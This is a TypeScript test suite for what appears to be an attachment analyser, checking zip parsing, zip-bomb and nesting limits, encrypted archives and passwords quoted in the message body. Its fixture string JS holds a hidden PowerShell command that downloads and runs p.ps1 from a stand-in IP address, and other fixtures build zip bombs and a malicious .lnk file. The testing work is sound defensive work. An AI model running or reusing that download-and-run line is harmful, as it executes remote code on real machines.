import assert from 'node:assert/strict';
import { test } from 'node:test';
import { buildLnk, buildZip, buildZipBomb } from '../../demo/artifacts/index.js';
import { analyze, ids, patch16, patch32 } from './test-helpers.js';
import { readZipDirectory } from './zip.js';

const JS = 'var sh = new ActiveXObject("WScript.Shell"); sh.Run("powershell -w hidden -c iwr http://198.51.100.7/p.ps1|iex");';

function eocdOffset(b: Uint8Array): number {
  for (let i = b.length - 22; i >= 0; i--) if (b[i] === 0x50 && b[i + 1] === 0x4b && b[i + 2] === 5 && b[i + 3] === 6) return i;
  return -1;
}

test('zip members are listed, hashed and analysed recursively', () => {
  const a = analyze('docs.zip', buildZip({ 'Invoice.pdf.js': JS, 'readme.txt': 'hello' }));
  assert.equal(a.detectedType, 'zip');
  assert.equal(a.members.length, 2);
  const js = a.members.find((m) => m.path === 'Invoice.pdf.js');
  assert.equal(js?.detectedType, 'js');
  assert.match(js?.sha256 ?? '', /^[0-9a-f]{64}$/);
  assert.ok(a.flags.includes('script') && a.flags.includes('double-extension'));
  assert.ok(a.findings.some((f) => f.id === 'script' && f.evidence.startsWith('Invoice.pdf.js: ')));
  assert.ok(a.urls.includes('http://198.51.100.7/p.ps1'));
});

test('zip-bomb refused by ratio before a byte is inflated', () => {
  const a = analyze('bomb.zip', buildZipBomb({ members: 2, memberBytes: 8 * 1024 * 1024 }));
  assert.ok(a.flags.includes('zip-bomb'));
  assert.match(a.findings.find((f) => f.id === 'zip-bomb')?.detail ?? '', /expands \d+:1/);
  assert.ok(a.members.every((m) => m.sha256 === null));
});

test('zip-declared-size-lie: member inflating past its declared size is refused', () => {
  const z = buildZip({ 'a.bin': new Uint8Array(2 * 1024 * 1024) });
  const cd = eocdOffset(z) - 46 - 'a.bin'.length;
  let lied = patch32(z, 22, 1000); // local header uncompressed size
  lied = patch32(lied, cd + 24, 1000); // central directory uncompressed size
  const a = analyze('lie.zip', lied);
  assert.ok(a.flags.includes('zip-bomb'), JSON.stringify(a.findings));
  assert.equal(a.members[0]?.sha256 ?? null, null);
});

test('zip-member-count-overflow: declared count larger than the directory can hold', () => {
  const z = buildZip({ 'a.js': JS });
  const e = eocdOffset(z);
  const lied = patch16(patch16(z, e + 8, 900), e + 10, 900);
  const dir = readZipDirectory(lied, 1000);
  assert.equal(dir.error, 'member-count-overflow');
  const a = analyze('count.zip', lied);
  assert.ok(a.flags.includes('parse-error:member-count-overflow'));
  assert.ok(a.flags.includes('script'), 'the real member is still analysed');
});

test('zip-member-count-limit: more members than allowed is refused', () => {
  const files = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`f${i}.txt`, `file ${i}`]));
  const a = analyze('many.zip', buildZip(files), { limits: { maxMembers: 5 } });
  assert.ok(a.flags.includes('zip-bomb'));
  assert.match(a.findings.find((f) => f.id === 'zip-bomb')?.evidence ?? '', /declares 12 members/);
});

test('zip-overlapping-members (non-recursive bomb reusing one kernel) refused', () => {
  const z = buildZip({ 'a.txt': 'x'.repeat(1000) });
  const e = eocdOffset(z);
  const cdStart = e - (46 + 5);
  const cdRecord = z.subarray(cdStart, e);
  const out = new Uint8Array(z.length + cdRecord.length);
  out.set(z.subarray(0, e), 0);
  out.set(cdRecord, e);
  out.set(z.subarray(e), e + cdRecord.length);
  const fixed = patch32(patch16(patch16(out, e + cdRecord.length + 8, 2), e + cdRecord.length + 10, 2), e + cdRecord.length + 12, cdRecord.length * 2);
  const a = analyze('overlap.zip', fixed);
  assert.ok(a.flags.includes('zip-bomb'));
  assert.match(a.findings.find((f) => f.id === 'zip-bomb')?.detail ?? '', /overlap/);
});

test('zip-nesting-depth (42.zip style) stops at the depth limit', () => {
  let inner = buildZip({ 'payload.js': JS });
  for (let i = 0; i < 7; i++) inner = buildZip({ [`layer${i}.zip`]: inner });
  const a = analyze('nested.zip', inner);
  assert.ok(a.flags.includes('archive-limit'));
  assert.ok(!a.flags.includes('script'), 'the payload lies below the depth limit');
  assert.ok(a.findings.some((f) => f.id === 'archive-limit'));
  const shallow = analyze('nested.zip', inner, { limits: { maxDepth: 10 } });
  assert.ok(shallow.flags.includes('script'));
});

test('zip-truncated-central-directory: members recovered from local headers', () => {
  const z = buildZip({ 'run.js': JS });
  const e = eocdOffset(z);
  const cut = z.subarray(0, e - 51);
  const a = analyze('cut.zip', cut);
  assert.ok(a.flags.includes('parse-error:no-central-directory'));
  assert.ok(a.flags.includes('script'));
});

test('encrypted zip: flagged, member names still judged', () => {
  const a = analyze('doc.zip', buildZip({ 'Invoice.lnk': buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe', args: '/c x' }) }, { encrypted: true, password: 'x9!' }));
  assert.ok(a.flags.includes('encrypted-archive'));
  assert.ok(a.flags.includes('lnk'), 'a .lnk member counts even unopened');
  assert.equal(a.members[0]?.encrypted, true);
  assert.equal(a.members[0]?.sha256, null);
});

const passwordCases = [
  { body: 'Please find the contract attached. Password: 4417', pw: '4417' },
  { body: 'The archive password is "Qw3rty!"', pw: 'Qw3rty!' },
  { body: '첨부 파일 비밀번호는 4417입니다.', pw: '4417' },
  { body: '압축 암호: 4417', pw: '4417' },
];
for (const c of passwordCases) {
  test(`archive-password-in-body verified: ${c.body}`, () => {
    const z = buildZip({ 'a.js': JS }, { encrypted: true, password: c.pw });
    const a = analyze('a.zip', z, { bodyText: c.body });
    assert.ok(a.flags.includes('archive-password-in-body'));
    assert.ok(a.flags.includes('archive-password-verified'));
    assert.ok(a.flags.includes('script'), 'decrypted member analysed');
    assert.match(a.members[0]?.sha256 ?? '', /^[0-9a-f]{64}$/);
  });
}

test('wrong password in body: noted as a mismatch (low), not verified, nothing decrypted', () => {
  const z = buildZip({ 'a.txt': 'secret' }, { encrypted: true, password: 'right-one' });
  const a = analyze('a.zip', z, { bodyText: 'password: wrong-one' });
  // the zip can check the candidate and it does not open it: words that look like a password are not the password
  assert.ok(a.flags.includes('archive-password-mismatch'));
  assert.ok(!a.flags.includes('archive-password-in-body'));
  assert.ok(!a.flags.includes('archive-password-verified'));
  assert.equal(a.members[0]?.sha256, null);
});

test('zip-crc-mismatch is named', () => {
  const z = buildZip({ 'a.txt': 'hello hello hello' }, { method: 0 });
  const bad = new Uint8Array(z);
  bad[30 + 5] = 0x58; // first byte of stored data
  assert.ok(ids(analyze('a.zip', bad)).includes('parse-error:crc-mismatch'));
});

test('zip-garbage-after-signature does not throw', () => {
  const b = new Uint8Array(4096).fill(0xff);
  b.set([0x50, 0x4b, 0x03, 0x04]);
  const a = analyze('x.zip', b);
  assert.equal(a.detectedType, 'zip');
});

test('zip-junk-before-central-directory: local headers found at their real offsets', () => {
  const z = buildZip({ 'run.js': JS });
  const e = eocdOffset(z);
  const cdStart = e - (46 + 'run.js'.length);
  const out = new Uint8Array(z.length + 6);
  out.set(z.subarray(0, cdStart), 0);
  out.set([1, 2, 3, 4, 5, 6], cdStart);
  out.set(z.subarray(cdStart), cdStart + 6);
  const a = analyze('junk.zip', out);
  assert.ok(a.flags.includes('script'), JSON.stringify(a.findings));
  assert.ok(!a.flags.includes('parse-error:bad-local-header'));
});

test('zip-size-off-by-a-little: analysed, mismatch named, not a bomb', () => {
  const z = buildZip({ 'run.js': JS });
  const cd = eocdOffset(z) - 46 - 'run.js'.length;
  const lied = patch32(patch32(z, 22, JS.length - 1), cd + 24, JS.length - 1);
  const a = analyze('a.zip', lied);
  assert.ok(a.flags.includes('parse-error:size-mismatch'));
  assert.ok(!a.flags.includes('zip-bomb'));
  assert.ok(a.flags.includes('script'));
});
